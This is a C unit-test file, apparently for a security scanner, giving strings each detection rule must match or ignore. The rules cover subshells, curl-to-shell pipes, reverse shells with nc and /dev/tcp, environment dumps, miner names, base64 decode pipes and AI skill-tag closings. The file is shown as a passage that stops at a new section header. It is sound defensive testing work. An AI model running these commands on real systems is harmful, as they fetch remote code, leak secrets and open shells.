// SPDX-License-Identifier: Apache-2.0
//
// What each rule accepts and what it never accepts, case by case. `matched`
// is the text that must match, NULL when the rule must stay silent; two
// matches are divided by a newline-free "\x1f".
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "lib/scanner.h"
#include "sanitize/buf.h"
#include "sanitize/prefilter.h"
#include "sanitize/scan.h"

#define TABLE "| Name | Note |\n| --- | --- |\n"
#define A10   "aB3dE6gH9k"
#define A60   A10 A10 A10 A10 A10 A10
#define HEX10 "\\x01\\x23\\x45\\x67\\x89\\xab\\xcd\\xef\\xAB\\xCD"

struct acceptance {
	const char *rule;
	const char *text;
	const char *matched;
	enum severity severity; // SEVERITY_OFF: the rule's own
	enum file_class cls;    // prose unless said
};

#define FINDS(id, in, out)                                                                                   \
	{                                                                                                    \
		.rule = #id, .text = in, .matched = out                                                      \
	}
#define WARNS(id, in, out)                                                                                   \
	{                                                                                                    \
		.rule = #id, .text = in, .matched = out, .severity = SEVERITY_WARN                           \
	}
#define NEVER(id, in)                                                                                        \
	{                                                                                                    \
		.rule = #id, .text = in                                                                      \
	}
#define CODE_FINDS(id, in, out)                                                                              \
	{                                                                                                    \
		.rule = #id, .text = in, .matched = out, .cls = CLASS_CODE                                   \
	}
#define CODE_NEVER(id, in)                                                                                   \
	{                                                                                                    \
		.rule = #id, .text = in, .cls = CLASS_CODE                                                   \
	}

// clang-format off
static const struct acceptance cases[] = {
	// ------------------------------------------------------- EXEC_SUBSHELL
	FINDS(EXEC_SUBSHELL, "a $(curl http://x) b", "$(curl http://x)"),
	FINDS(EXEC_SUBSHELL, "$(wget x)\n$(bash y)", "$(wget x)\x1f$(bash y)"),
	FINDS(EXEC_SUBSHELL, "$(sh)", "$(sh)"),
	FINDS(EXEC_SUBSHELL, "$(nc -w 1 host 80)", "$(nc -w 1 host 80)"),
	FINDS(EXEC_SUBSHELL, "$(ncat host 80)", "$(ncat host 80)"),
	FINDS(EXEC_SUBSHELL, "$(zsh -c x)", "$(zsh -c x)"),
	FINDS(EXEC_SUBSHELL, "$(dash run)", "$(dash run)"),
	FINDS(EXEC_SUBSHELL, "$(\n  curl\n  x\n)", "$(\n  curl\n  x\n)"),
	FINDS(EXEC_SUBSHELL, "$(/usr/bin/curl x)", "$(/usr/bin/curl x)"),
	FINDS(EXEC_SUBSHELL, "$(echo a; ./x && bash y)", "$(echo a; ./x && bash y)"),
	FINDS(EXEC_SUBSHELL, "$(echo $(date) $(curl x))", "$(echo $(date) $(curl x)"),
	FINDS(EXEC_SUBSHELL, "$(a \"$(sh x)\")", "$(a \"$(sh x)"),
	FINDS(EXEC_SUBSHELL, "$( (curl x) )", "$( (curl x)"),
	FINDS(EXEC_SUBSHELL, "$(date) $(curl x)", "$(curl x)"),
	FINDS(EXEC_SUBSHELL, "$(curl --version; curl x)", "$(curl --version; curl x)"),
	FINDS(EXEC_SUBSHELL, "$(sh build.sh)", "$(sh build.sh)"),
	FINDS(EXEC_SUBSHELL, "$(du -sh . | bash)", "$(du -sh . | bash)"),
	CODE_FINDS(EXEC_SUBSHELL, "x=$(CURL x)", "$(CURL x)"),
	FINDS(EXEC_SUBSHELL, "$(echo ')'; curl x)", "$(echo ')'; curl x)"),
	FINDS(EXEC_SUBSHELL, "$(echo \"a)\" \\) ; wget x)", "$(echo \"a)\" \\) ; wget x)"),
	NEVER(EXEC_SUBSHELL, "$(it's done) it's time for curl (x)"),
	NEVER(EXEC_SUBSHELL, "$(') and\nthen ' curl (x)"),
	NEVER(EXEC_SUBSHELL, "$ (curl x)"),
	NEVER(EXEC_SUBSHELL, "$(curl x"),
	NEVER(EXEC_SUBSHELL, "$(python x)"),
	NEVER(EXEC_SUBSHELL, "$((1+2)) curl (x)"),
	NEVER(EXEC_SUBSHELL, "$(curly x)"),
	NEVER(EXEC_SUBSHELL, "$(git push)"),
	NEVER(EXEC_SUBSHELL, "$(rsync a b) $(finish) $(hash x) $(zcurl x) $(fetch_sh x)"),
	NEVER(EXEC_SUBSHELL, "$(du -sh .)"),
	NEVER(EXEC_SUBSHELL, "$(fzf --zsh)"),
	NEVER(EXEC_SUBSHELL, "$(x --with-sh y)"),
	NEVER(EXEC_SUBSHELL, "$(./build.sh)"),
	NEVER(EXEC_SUBSHELL, "$(bash --version)"),
	NEVER(EXEC_SUBSHELL, "$(bash --version | head -n1)"),
	NEVER(EXEC_SUBSHELL, "$(curl --help 2>&1)"),
	NEVER(EXEC_SUBSHELL, "$(curl -V)"),
	NEVER(EXEC_SUBSHELL, "$(date) then curl (x)"),
	NEVER(EXEC_SUBSHELL, "${curl}"),
	NEVER(EXEC_SUBSHELL, "$(grep -o '(' f) and bash (x)"),
	CODE_NEVER(EXEC_SUBSHELL, "$('#a').on('x', function () { bash(); })"),

	// ------------------------------------------------------- EXEC_BACKTICK
	FINDS(EXEC_BACKTICK, "a `sh build.sh` b", "`sh build.sh`"),
	FINDS(EXEC_BACKTICK, "`curl x`, `wget y`", "`curl x`\x1f`wget y`"),
	FINDS(EXEC_BACKTICK, "`cd a && bash b`", "`cd a && bash b`"),
	FINDS(EXEC_BACKTICK, "`nc host 1` `ncat host 1`", "`nc host 1`\x1f`ncat host 1`"),
	FINDS(EXEC_BACKTICK, "`/bin/sh x`", "`/bin/sh x`"),
	FINDS(EXEC_BACKTICK, "`x-sh y`", "`x-sh y`"),
	FINDS(EXEC_BACKTICK, "`sh\n x`", "`sh\n x`"),
	FINDS(EXEC_BACKTICK, "~~~\n`sh x`\n~~~\n", "`sh x`"),
	FINDS(EXEC_BACKTICK, "```\n`sh x`\n", "`sh x`"),
	FINDS(EXEC_BACKTICK, "```\nx\n```\n`sh x`\n", "`sh x`"),
	FINDS(EXEC_BACKTICK, "a stray ` tick\n\n`sh x`\n", "`sh x`"),
	FINDS(EXEC_BACKTICK, "- a stray ` tick\n- `sh x`\n", "`sh x`"),
	FINDS(EXEC_BACKTICK, "a \\` tick `sh x`", "`sh x`"),
	FINDS(EXEC_BACKTICK, "``two ` ticks`` `sh x`", "`sh x`"),
	FINDS(EXEC_BACKTICK, "`bash --version && bash x`", "`bash --version && bash x`"),
	FINDS(EXEC_BACKTICK, TABLE "| `sh x` | y |\n", "`sh x`"),
	CODE_FINDS(EXEC_BACKTICK, "# it`s\nx=`sh y`\n", "`sh y`"),
	CODE_FINDS(EXEC_BACKTICK, "x=`\n  curl y\n`\n", "`\n  curl y\n`"),
	NEVER(EXEC_BACKTICK, "`one` and bash is `two`"),
	NEVER(EXEC_BACKTICK, "x `a\nb` sh or `c`"),
	NEVER(EXEC_BACKTICK, "`sh`"),
	NEVER(EXEC_BACKTICK, "`bash `"),
	NEVER(EXEC_BACKTICK, "`bash  `"),
	NEVER(EXEC_BACKTICK, "`./build.sh --all`"),
	NEVER(EXEC_BACKTICK, "`build.sh x` and `.sh files`"),
	NEVER(EXEC_BACKTICK, "`git push origin` `rsync a b` `du -sh .` `fzf --zsh x`"),
	NEVER(EXEC_BACKTICK, "`bash --version` `curl --help` `wget -V`"),
	NEVER(EXEC_BACKTICK, "```\n`sh x`\n```\n"),
	NEVER(EXEC_BACKTICK, "1. a\n   ```sh\n   `sh x`\n   ```\n"),
	NEVER(EXEC_BACKTICK, "````\n```\n`sh x`\n```\n````\n"),
	NEVER(EXEC_BACKTICK, "`unclosed bash x"),

	// ----------------------------------------------------------- EXEC_EVAL
	FINDS(EXEC_EVAL, "eval(\"x\") eval('y') eval(`z`)", "eval(\"\x1f" "eval('\x1f" "eval(`"),
	FINDS(EXEC_EVAL, "EVAL \n( \t'x')", "EVAL \n( \t'"),
	FINDS(EXEC_EVAL, "window.eval\xc2\xa0(\xe3\x80\x80'x')", "eval\xc2\xa0(\xe3\x80\x80'"),
	NEVER(EXEC_EVAL, "my_eval('x') evaluate('x') eval(x) evalx('y') eval 'x'"),

	// ------------------------------------------------------ EXEC_PIPE_BASH
	FINDS(EXEC_PIPE_BASH, "x | bash", "| bash"),
	FINDS(EXEC_PIPE_BASH, "x |sh\ny |& zsh\nz| ksh", "|sh\x1f|& zsh\x1f| ksh"),
	FINDS(EXEC_PIPE_BASH, "x | dash; x | ash", "| dash\x1f| ash"),
	FINDS(EXEC_PIPE_BASH, "x | /bin/sh -s", "| /bin/sh"),
	FINDS(EXEC_PIPE_BASH, "x | /usr/bin/env bash", "| /usr/bin/env bash"),
	FINDS(EXEC_PIPE_BASH, "x | ~/bin/bash; x | $HOME/sh", "| ~/bin/bash\x1f| $HOME/sh"),
	FINDS(EXEC_PIPE_BASH, "x | sudo bash", "| sudo bash"),
	FINDS(EXEC_PIPE_BASH, "x | sudo -E bash -", "| sudo -E bash"),
	FINDS(EXEC_PIPE_BASH, "x | sudo -u root -H bash", "| sudo -u root -H bash"),
	FINDS(EXEC_PIPE_BASH, "x | sudo --user=root -- sh", "| sudo --user=root -- sh"),
	FINDS(EXEC_PIPE_BASH, "x | doas -u www sh", "| doas -u www sh"),
	FINDS(EXEC_PIPE_BASH, "x | env bash", "| env bash"),
	FINDS(EXEC_PIPE_BASH, "x | env -i A=1 B='2 3' bash", "| env -i A=1 B='2 3' bash"),
	FINDS(EXEC_PIPE_BASH, "x | exec -a y sh", "| exec -a y sh"),
	FINDS(EXEC_PIPE_BASH, "x | nohup sudo command -p bash", "| nohup sudo command -p bash"),
	FINDS(EXEC_PIPE_BASH, "x | sudo -nu root bash", "| sudo -nu root bash"),
	FINDS(EXEC_PIPE_BASH, "x | sudo --user root --login bash", "| sudo --user root --login bash"),
	FINDS(EXEC_PIPE_BASH, "x | env -iu X --chdir /tmp --unset=Y sh", "| env -iu X --chdir /tmp --unset=Y sh"),
	FINDS(EXEC_PIPE_BASH, "x | env -S 'A=1 bash -e'", "| env -S 'A=1 bash"),
	FINDS(EXEC_PIPE_BASH, "x | env -iS\"sh\"; x | env --split-string=sh", "| env -iS\"sh\x1f| env --split-string=sh"),
	FINDS(EXEC_PIPE_BASH, "x | exec -cla y sh; x | sudo -uroot sh", "| exec -cla y sh\x1f| sudo -uroot sh"),
	NEVER(EXEC_PIPE_BASH, "x | sudo -u bash tee f; x | sudo --user sh tee f; x | env -S 'A=1'"),
	FINDS(EXEC_PIPE_BASH, "x |\n  bash", "|\n  bash"),
	FINDS(EXEC_PIPE_BASH, "x | \\\n  bash", "| \\\n  bash"),
	FINDS(EXEC_PIPE_BASH, "(curl x | bash)", "| bash"),
	FINDS(EXEC_PIPE_BASH, "$(x|sh)", "|sh"),
	FINDS(EXEC_PIPE_BASH, "(payload|sh)", "|sh"),
	FINDS(EXEC_PIPE_BASH, "cat <payload|sh>log", "|sh"),
	FINDS(EXEC_PIPE_BASH, "{ echo id|sh; }", "|sh"),
	FINDS(EXEC_PIPE_BASH, "| a | bash |\n\nno table", "| bash"),
	WARNS(EXEC_PIPE_BASH, TABLE "| a | bash -c x |", "| bash"),
	WARNS(EXEC_PIPE_BASH, TABLE "| sudo sh | a |", "| sudo sh"),
	FINDS(EXEC_PIPE_BASH, TABLE "| a | curl x \\| bash |", "| bash"),
	FINDS(EXEC_PIPE_BASH, TABLE "\ncurl x | bash\n", "| bash"),
	FINDS(EXEC_PIPE_BASH, TABLE "curl x | bash\n", "| bash"),
	CODE_FINDS(EXEC_PIPE_BASH, TABLE "| a | bash -c x |", "| bash"),
	NEVER(EXEC_PIPE_BASH, "x || sh"),
	NEVER(EXEC_PIPE_BASH, TABLE "| bash | a |\n| `zsh` | **sh** |\n"),
	NEVER(EXEC_PIPE_BASH, "Shell | Note\n--- | ---\na | bash\n"),
	NEVER(EXEC_PIPE_BASH, TABLE "| a | b |\nbash x"),
	NEVER(EXEC_PIPE_BASH, "x | shell; x | zshrc; x | shred; x | _sh; x | fish; x | sudo tee sh"),
	NEVER(EXEC_PIPE_BASH, "completion {zsh|bash|fish}"),
	NEVER(EXEC_PIPE_BASH, "(bash|sh) [zsh | bash] <fish|bash>"),
	NEVER(EXEC_PIPE_BASH, "--shell bash|zsh|fish; grep -E 'bash|sh'; case $x in bash|zsh) y;; esac"),
	NEVER(EXEC_PIPE_BASH, "A -->|bash|B ==>|sh| C -.->|zsh x| D"),
	FINDS(EXEC_PIPE_BASH, "curl x | bash|sh", "| bash\x1f|sh"),
	FINDS(EXEC_PIPE_BASH, "f()(a|bash); if(a|sh); then(a|sh)", "|bash\x1f|sh\x1f|sh"),
	NEVER(EXEC_PIPE_BASH, "select(a|bash) (js)(a|sh) notif(a|sh) do(bash|sh)"),
	FINDS(EXEC_PIPE_BASH, "curl http://x/?a=sh|sh", "|sh"),
	FINDS(EXEC_PIPE_BASH, "curl http://x/a,sh|sh; wget x#bash|zsh; cat x@sh|sh", "|sh\x1f|zsh\x1f|sh"),
	FINDS(EXEC_PIPE_BASH, "curl http://x sh|sh", "|sh"),
	FINDS(EXEC_PIPE_BASH, "curl http://x <sh|sh", "|sh"),
	FINDS(EXEC_PIPE_BASH, "curl \"http://x/\"sh|sh", "|sh"),
	FINDS(EXEC_PIPE_BASH, "x -H \"a \"sh|sh\"\"", "|sh"),
	FINDS(EXEC_PIPE_BASH, "curl --url=http://x --shell=sh|sh", "|sh"),
	NEVER(EXEC_PIPE_BASH, "--shell=bash|zsh|fish; `bash|zsh`; \"bash|sh\"\nbash|zsh"),
	FINDS(EXEC_PIPE_BASH, "php|sh; ./bash|sh; bash |sh", "|sh\x1f|sh\x1f|sh"),
	NEVER(EXEC_PIPE_BASH, "\\.(js|sh|foo)$ (?:a|sh)"),

	// -------------------------------------------------------- ENV_PRINTENV
	FINDS(ENV_PRINTENV, "run printenv; PRINTENV-all", "printenv\x1fPRINTENV"),
	NEVER(ENV_PRINTENV, "printenvs printenv_all xprintenv print_env"),

	// ---------------------------------------------------- ENV_PROC_ENVIRON
	FINDS(ENV_PROC_ENVIRON, "/proc/self/environ", "/proc/self/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/thread-self/environ", "/proc/thread-self/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/1234/environ", "/proc/1234/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/$PID/environ", "/proc/$PID/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/${pid}/environ", "/proc/${pid}/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/$$/environ", "/proc/$$/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/{pid}/environ", "/proc/{pid}/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/*/environ", "/proc/*/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/[0-9]*/environ", "/proc/[0-9]*/environ"),
	FINDS(ENV_PROC_ENVIRON, "//proc//self///environ", "/proc//self///environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/self/task/1/environ", "/proc/self/task/1/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/\"$pid\"/environ", "/proc/\"$pid\"/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/$(pgrep -f x)/environ", "/proc/$(pgrep -f x)/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/`pidof x`/environ", "/proc/`pidof x`/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/[pid]/environ", "/proc/[pid]/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/{os.getpid()}/environ", "/proc/{os.getpid()}/environ"),
	FINDS(ENV_PROC_ENVIRON, "/proc/#{$$}/environ", "/proc/#{$$}/environ"),
	NEVER(ENV_PROC_ENVIRON, "/proc/{a/b}/environ /proc/\"/environ /proc/$(\n)/environ /proc/abc/environ"),
	NEVER(ENV_PROC_ENVIRON, "/proc/selfish/environ /proc/self /environ /proc/environ /proc/meminfo"),

	// ------------------------------------------------------- ENV_MASS_DUMP
	FINDS(ENV_MASS_DUMP, "env | grep A", "env | grep"),
	FINDS(ENV_MASS_DUMP, "env|sort; env |\n tee f", "env|sort\x1f" "env |\n tee"),
	FINDS(ENV_MASS_DUMP, "sudo env | curl x; /usr/bin/env | nc h 1", "env | curl\x1f" "env | nc"),
	FINDS(ENV_MASS_DUMP, "env |& base64 -w0", "env |& base64"),
	FINDS(ENV_MASS_DUMP, "export -p | base64", "export -p | base64"),
	FINDS(ENV_MASS_DUMP, "declare  -x | curl -d @- x", "declare  -x | curl"),
	FINDS(ENV_MASS_DUMP, "env \\\n  | grep A", "env \\\n  | grep"),
	FINDS(ENV_MASS_DUMP, "env | \\\r\n sort; export \\\n -p |tee x", "env | \\\r\n sort\x1f" "export \\\n -p |tee"),
	NEVER(ENV_MASS_DUMP, "env \\ | grep A"),
	NEVER(ENV_MASS_DUMP, ".env file | grep x"),
	NEVER(ENV_MASS_DUMP, "myenv | grep x; _env | sort; env2 | sort"),
	NEVER(ENV_MASS_DUMP, "env || grep x"),
	NEVER(ENV_MASS_DUMP, "set | grep x"),
	NEVER(ENV_MASS_DUMP, "env | less; env | teenager; env | sorted; env grep"),

	// ------------------------------------------------------ CRYPTO_STRATUM
	FINDS(CRYPTO_STRATUM, "stratum://a stratum+tcp://b STRATUM+SSL://c", "stratum://\x1fstratum+tcp://\x1fSTRATUM+SSL://"),
	FINDS(CRYPTO_STRATUM, "stratumtcp://a stratum+://b", "stratumtcp://\x1fstratum+://"),
	NEVER(CRYPTO_STRATUM, "stratum2+tcp://x stratum+udp://x substratum://x stratum: x stratum-tcp://x"),

	// ------------------------------------------------- CRYPTO_MINER_BINARY
	FINDS(CRYPTO_MINER_BINARY, "xmrig cgminer bfgminer", "xmrig\x1f" "cgminer\x1f" "bfgminer"),
	FINDS(CRYPTO_MINER_BINARY, "./ethminer nbminer.exe PhoenixMiner t-rex", "ethminer\x1fnbminer\x1fPhoenixMiner\x1ft-rex"),
	FINDS(CRYPTO_MINER_BINARY, "T-Rex -a kawpow", "T-Rex"),
	WARNS(CRYPTO_MINER_BINARY, "The T-Rex was large.", "T-Rex"),
	NEVER(CRYPTO_MINER_BINARY, "xmrigs mycgminer xm rig t_rex bfg miner at-rex"),

	// -------------------------------------------------- CRYPTO_POOL_DOMAIN
	FINDS(CRYPTO_POOL_DOMAIN, "pool.evil.com MINING.aa.bb x.hashrate.to.us", "pool.evil.com\x1fMINING.aa.bb\x1fhashrate.to.us"),
	FINDS(CRYPTO_POOL_DOMAIN, "pool.ntp.org.evil.com", "pool.ntp.org"),
	NEVER(CRYPTO_POOL_DOMAIN, "pool.com pool.ntp.org 0.pool.ntp.org. de.POOL.NTP.ORG, pool.min3r.com carpool.aa.bb"),

	// ------------------------------------------------------- NET_CURL_PIPE
	FINDS(NET_CURL_PIPE, "curl -s x | sh", "curl -s x | sh"),
	FINDS(NET_CURL_PIPE, "curl x | python3 -", "curl x | python3"),
	FINDS(NET_CURL_PIPE, "curl x | python3.11; curl x | perl5", "curl x | python3.11\x1f" "curl x | perl5"),
	FINDS(NET_CURL_PIPE, "curl x | node\ncurl x | ruby\ncurl x | php8", "curl x | node\x1f" "curl x | ruby\x1f" "curl x | php8"),
	FINDS(NET_CURL_PIPE, "curl x | tee f | jq . | sudo /usr/bin/python", "curl x | tee f | jq . | sudo /usr/bin/python"),
	FINDS(NET_CURL_PIPE, "curl x \\\n  -o - \\\n  | bash", "curl x \\\n  -o - \\\n  | bash"),
	FINDS(NET_CURL_PIPE, "curl x\n  | bash", "curl x\n  | bash"),
	FINDS(NET_CURL_PIPE, "curl -H 'a; b' x | sh", "curl -H 'a; b' x | sh"),
	FINDS(NET_CURL_PIPE, "curl \"a;\\\";b\" | sh", "curl \"a;\\\";b\" | sh"),
	FINDS(NET_CURL_PIPE, "don't curl x | sh", "curl x | sh"),
	FINDS(NET_CURL_PIPE, "curl a || curl b | sh", "curl a || curl b | sh"),
	FINDS(NET_CURL_PIPE, "curl a | sh && curl b | bash", "curl a | sh\x1f" "curl b | bash"),
	FINDS(NET_CURL_PIPE, "curl x |& bash", "curl x |& bash"),
	NEVER(NET_CURL_PIPE, "libcurl_x | sh; curly | sh"),
	NEVER(NET_CURL_PIPE, "curl x | pythonic; curl x | jq .; curl x | rubygems; curl x | node_modules"),
	NEVER(NET_CURL_PIPE, "curl x; y | sh"),
	NEVER(NET_CURL_PIPE, "it's curl x; that's | sh"),
	NEVER(NET_CURL_PIPE, "curl x\ny | sh"),
	NEVER(NET_CURL_PIPE, "curl x\r\ny | sh"),
	NEVER(NET_CURL_PIPE, "curl x \\\\\ny | sh"),
	NEVER(NET_CURL_PIPE, "curl x || sh"),

	// ------------------------------------------------------- NET_WGET_EXEC
	FINDS(NET_WGET_EXEC, "wget -O - x | tar", "wget -O - x |"),
	FINDS(NET_WGET_EXEC, "wget -O- x|sh", "wget -O- x|"),
	FINDS(NET_WGET_EXEC, "wget -qO- x | sh", "wget -qO- x |"),
	FINDS(NET_WGET_EXEC, "wget -qO - x | sh", "wget -qO - x |"),
	FINDS(NET_WGET_EXEC, "wget x -nvO '-' | sh", "wget x -nvO '-' |"),
	FINDS(NET_WGET_EXEC, "wget --output-document=- x | sh", "wget --output-document=- x |"),
	FINDS(NET_WGET_EXEC, "wget --output-document - x | sh", "wget --output-document - x |"),
	FINDS(NET_WGET_EXEC, "wget -O /dev/stdout x | sh", "wget -O /dev/stdout x |"),
	FINDS(NET_WGET_EXEC, "wget --output-document=/dev/stdout x | sh", "wget --output-document=/dev/stdout x |"),
	FINDS(NET_WGET_EXEC, "wget \\\n -O - \\\n x\n | sh", "wget \\\n -O - \\\n x\n |"),
	NEVER(NET_WGET_EXEC, "wget O - x | y; wget - O - x | y"),
	NEVER(NET_WGET_EXEC, "wget -O file x | y"),
	NEVER(NET_WGET_EXEC, "wget -O -x | y"),
	NEVER(NET_WGET_EXEC, "wget -O - x || y"),
	NEVER(NET_WGET_EXEC, "wget x; y -O - | z"),
	NEVER(NET_WGET_EXEC, "wget -O - x\ny | z"),
	NEVER(NET_WGET_EXEC, "wget x | grep -O -"),

	// --------------------------------------------------- NET_REVERSE_SHELL
	FINDS(NET_REVERSE_SHELL, "bash -i; sh -i", "bash -i\x1fsh -i"),
	FINDS(NET_REVERSE_SHELL, "/bin/bash -li >x", "bash -li"),
	FINDS(NET_REVERSE_SHELL, "BASH\t-I", "BASH\t-I"),
	FINDS(NET_REVERSE_SHELL, "exec 5<>/dev/tcp/10.0.0.5/42", "/dev/tcp/"),
	FINDS(NET_REVERSE_SHELL, "cat </dev/udp/$h/$p; /dev/tcp/\"$h\"/1", "/dev/udp/\x1f/dev/tcp/"),
	FINDS(NET_REVERSE_SHELL, "nc -l 1; ncat -p 2; nc -e sh", "nc -l\x1fncat -p\x1fnc -e"),
	FINDS(NET_REVERSE_SHELL, "nc -lvp 4444", "nc -lvp"),
	FINDS(NET_REVERSE_SHELL, "ncat -lk 4446; nc -nvlp4444", "ncat -lk\x1fnc -nvlp4444"),
	FINDS(NET_REVERSE_SHELL, "nc 10.0.0.1 80 -e /bin/sh", "nc 10.0.0.1 80 -e"),
	FINDS(NET_REVERSE_SHELL, "nc -v -l 4", "nc -v -l"),
	FINDS(NET_REVERSE_SHELL, "bash \\\n -i", "bash \\\n -i"),
	FINDS(NET_REVERSE_SHELL, "bash --noprofile --norc -i", "bash --noprofile --norc -i"),
	FINDS(NET_REVERSE_SHELL, "nc -4l 80; ncat -6lk 80", "nc -4l\x1fncat -6lk"),
	FINDS(NET_REVERSE_SHELL, "nc -w 3 -s 10.0.0.2 host 80 -e sh", "nc -w 3 -s 10.0.0.2 host 80 -e"),
	FINDS(NET_REVERSE_SHELL, "nc <attacker-ip> <port> -e sh", "nc <attacker-ip> <port> -e"),
	FINDS(NET_REVERSE_SHELL, "nc is nc -l 7000", "nc -l"),
	FINDS(NET_REVERSE_SHELL, "nc\xc2\xa0h\xc2\xa0-e sh", "nc\xc2\xa0h\xc2\xa0-e"),
	FINDS(NET_REVERSE_SHELL, "nc -v x/nc -l; nc -v -nc -l", "nc -l\x1fnc -v -nc -l"),
	NEVER(NET_REVERSE_SHELL, "use nc to test a port, then ls -l"),
	NEVER(NET_REVERSE_SHELL, "nc host 80 <f -l; nc host 80 <f> -l >x; nc -4 host 80"),
	NEVER(NET_REVERSE_SHELL, "nc -z host; nc -zv host 1-80; nc host 80"),
	NEVER(NET_REVERSE_SHELL, "nc --listen; ncat --listen 1; nc -help"),
	NEVER(NET_REVERSE_SHELL, "nc host 80\nls -l"),
	NEVER(NET_REVERSE_SHELL, "nc host 80; ls -l; nc host | wc -l; nc h > f -l"),
	NEVER(NET_REVERSE_SHELL, "bash -in x; bash -ix; bash --init-file x; bash i; zsh -i; rsync -i"),
	NEVER(NET_REVERSE_SHELL, "./build.sh -i; du -sh -i; sync -e; func -l"),
	NEVER(NET_REVERSE_SHELL, "/dev/tcp/ is a feature, `/dev/tcp/` too, '/dev/udp/' and (/dev/tcp/)"),

	// ----------------------------------------------------- OBF_BASE64_LONG
	FINDS(OBF_BASE64_LONG, "x " A60 A10 A10 "== y", A60 A10 A10 "=="),
	FINDS(OBF_BASE64_LONG, A60 "+/aB+/cD+/" A10 "===", A60 "+/aB+/cD+/" A10 "=="),
	FINDS(OBF_BASE64_LONG, A60 "\n" A60 "\n" A60 "\n", A60 "\n" A60 "\n" A60),
	FINDS(OBF_BASE64_LONG, A60 " \n" A60 "\t\r\n" A60 " \n", A60 " \n" A60 "\t\r\n" A60),
	FINDS(OBF_BASE64_LONG, "k: |\n  " A60 "abcd\r\n  " A60 "efgh\r\n  " A60 "ijkl\r\n  abc=\r\nend", A60 "abcd\r\n  " A60 "efgh\r\n  " A60 "ijkl\r\n  abc="),
	NEVER(OBF_BASE64_LONG, A60 A10 "aB3dE6gH9"),
	NEVER(OBF_BASE64_LONG, A60 A10 "aB3dE6gH9=="),
	NEVER(OBF_BASE64_LONG, A60 "_" A60 "-" A60),
	NEVER(OBF_BASE64_LONG, A60 "\n" A60 "\n"),
	NEVER(OBF_BASE64_LONG, A60 "\n" A60 "a\n" A60 "\n"),
	NEVER(OBF_BASE64_LONG, "see /usr/local/share/MyLongProject/src/main/java/com/example/service/impl2/DefaultHandler/x"),
	NEVER(OBF_BASE64_LONG, "////////////////////////////////////////////////////////////////////////////////////////"),

	// -------------------------------------------------------- OBF_HEX_LONG
	FINDS(OBF_HEX_LONG, "a" HEX10 HEX10 "b", HEX10 HEX10),
	NEVER(OBF_HEX_LONG, HEX10 "\\x01\\x23\\x45\\x67\\x89\\xab\\xcd\\xef\\xAB"),
	NEVER(OBF_HEX_LONG, HEX10 "\\x01\\x23\\x45\\x67\\x89\\xab\\xcd\\xef\\xAB\\xC"),
	NEVER(OBF_HEX_LONG, HEX10 " " HEX10),
	NEVER(OBF_HEX_LONG, HEX10 "\\X00" HEX10),
	NEVER(OBF_HEX_LONG, "%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41 0x410x41"),

	// ---------------------------------------------- OBF_BASE64_DECODE_PIPE
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 -d | sh", "base64 -d |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "$x|base64 --decode|sh", "base64 --decode|"),
	FINDS(OBF_BASE64_DECODE_PIPE, "BASE64 -D | x", "BASE64 -D |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "/usr/bin/base64 -di | x", "base64 -di |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 -d file | sh", "base64 -d file |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 file -d | sh", "base64 file -d |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 -d <<< Zm9v | sh", "base64 -d <<< Zm9v |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 -d < f 2>&1 | sh", "base64 -d < f 2>&1 |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 -d 'a;b' |& sh", "base64 -d 'a;b' |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "base64 -d \\\n f\n  | sh", "base64 -d \\\n f\n  |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "openssl base64 -d -in f | sh", "base64 -d -in f |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "openssl enc -base64 -d | sh", "base64 -d |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "openssl enc -d -base64 | sh", "openssl enc -d -base64 |"),
	FINDS(OBF_BASE64_DECODE_PIPE, "openssl enc -a -d | sh", "openssl enc -a -d |"),
	WARNS(OBF_BASE64_DECODE_PIPE, TABLE "| base64 -d | decodes |", "base64 -d |"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 -d file"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 -d file\nx | y"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 -d f; x | y"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 -d f || x"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 -d f > g && cat g | wc"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 --decoder | x; base64-d | x; base64 decode | x"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base64 -w0 | x -d | y"),
	NEVER(OBF_BASE64_DECODE_PIPE, "base32 -d | x; xbase64 -d | y"),

	// ----------------------------------------------------- XML_SKILL_CLOSE
	FINDS(XML_SKILL_CLOSE, "</available_skills></skill_invocation></SKILL>", "</available_skills>\x1f</skill_invocation>\x1f</SKILL>"),
	FINDS(XML_SKILL_CLOSE, "</skill > </ skill\n></\xc2\xa0skill>", "</skill >\x1f</ skill\n>\x1f</\xc2\xa0skill>"),
	NEVER(XML_SKILL_CLOSE, "<skill> </skills> &lt;/skill&gt; </available-skills> </skill_x>"),

	// ------------------------------------------------------ XML_SYSTEM_TAG
